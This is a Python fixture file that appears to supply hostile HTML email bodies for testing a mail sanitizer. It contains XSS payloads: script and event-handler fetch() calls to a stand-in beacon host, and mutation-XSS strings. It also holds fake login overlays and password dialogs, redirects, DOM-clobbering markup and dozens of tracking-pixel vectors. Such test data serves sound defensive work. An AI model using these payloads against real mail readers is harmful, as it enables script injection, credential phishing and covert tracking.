# ruff: noqa: E501
"""Mails that try to run, to ask, or to cover: whole HTML documents as their writers send them."""

BEACON = "https://beacon.example"

HOSTILE = {
    "script": f"<script>fetch('{BEACON}/s');document.title='owned'</script><p>x</p>",
    "handlers": (
        f"<body onload=\"fetch('{BEACON}/l')\"><img src=x onerror=\"fetch('{BEACON}/e')\">"
        f"<details open ontoggle=\"fetch('{BEACON}/t')\"><summary>x</summary></details>"
        f"<input autofocus onfocus=\"fetch('{BEACON}/f')\"><marquee onstart=alert(1)>x</marquee>"
    ),
    "cover": (
        "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>log in again</div>"
        "<style>body *{position:fixed!important;inset:0;z-index:9999;width:200vw}</style>"
    ),
    "dialog": "<dialog open>Your session ended<form><input name=password></form></dialog>",
    "popover": "<div popover=manual id=p>x</div><button popovertarget=p>x</button>",
    "refresh": f"<meta http-equiv=refresh content='0;url={BEACON}/r'><p>x</p>",
    "base": f"<base href='{BEACON}/' target=_top><a href=login>log in</a><img src=pixel.png>",
    "form": (
        f"<form action='{BEACON}/f' target=_top><input name=password value=x>"
        f"<button formaction='{BEACON}/g'>Log in</button><input type=image src='{BEACON}/i'></form>"
    ),
    "svg": (
        f"<svg onload=\"fetch('{BEACON}/v')\"><image href='{BEACON}/vi'/><use href='{BEACON}/u#x'/>"
        f"<foreignObject><iframe src='{BEACON}/fo'></iframe></foreignObject>"
        f"<style>@import '{BEACON}/vs';</style><animate onbegin=alert(1) dur=1s></svg>"
    ),
    "math": f"<math href='{BEACON}/m'><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "css": (
        f"<style>@import url({BEACON}/c1);@font-face{{font-family:f;src:url({BEACON}/c2)}}"
        f"body{{background:url({BEACON}/c3);font-family:f}}p::before{{content:url({BEACON}/c4)}}"
        f"a[href^='h']{{cursor:url({BEACON}/c5),auto}}</style>"
        f"<p style='background-image:image-set(url({BEACON}/c6) 1x)'>x</p>"
        f"<ul style='list-style:url({BEACON}/c7)'><li>x</ul>"
    ),
    "pictures": (
        f"<img src='{BEACON}/p1' srcset='{BEACON}/p2 2x' loading=eager>"
        f"<picture><source srcset='{BEACON}/p3'><img src='{BEACON}/p4'></picture>"
        f"<table background='{BEACON}/p5'><td background='{BEACON}/p6'>x</table>"
        f"<img src='//beacon.example/p7'><img src='HtTpS:/\\beacon.example/p8'>"
    ),
    "media": (
        f"<video src='{BEACON}/a' poster='{BEACON}/b' autoplay></video><audio src='{BEACON}/c' autoplay>"
        f"</audio><object data='{BEACON}/d'></object><embed src='{BEACON}/e'>"
        f"<track src='{BEACON}/g'><bgsound src='{BEACON}/h'>"
    ),
    "links": (
        f"<link rel=stylesheet href='{BEACON}/k'><link rel=prefetch href='{BEACON}/n'>"
        "<link rel=dns-prefetch href='//beacon.example'><link rel=preconnect href='//beacon.example'>"
        f"<a href='{BEACON}/click' ping='{BEACON}/ping'>x</a>"
    ),
    "frames": (
        f"<iframe src='{BEACON}/i'></iframe><iframe srcdoc=\"<script>fetch('{BEACON}/d')</script>\">"
        f"</iframe><frameset><frame src='{BEACON}/fs'></frameset><portal src='{BEACON}/po'></portal>"
    ),
    "mutation": (
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>"
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
    ),
    "shadow": (
        f"<div><template shadowrootmode=open><style>:host{{background:url({BEACON}/sh)}}</style>"
        f"<img src='{BEACON}/sr'></template></div>"
    ),
    "names": "<img name=body><form id=documentElement><input name=parentNode></form><a id=scripted>",
    "comment": f"<!--[if mso]><img src='{BEACON}/o'><![endif]--><!--><img src='{BEACON}/q'>-->",
    "rules": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{BEACON}/z"]}}]}}</script>',
}
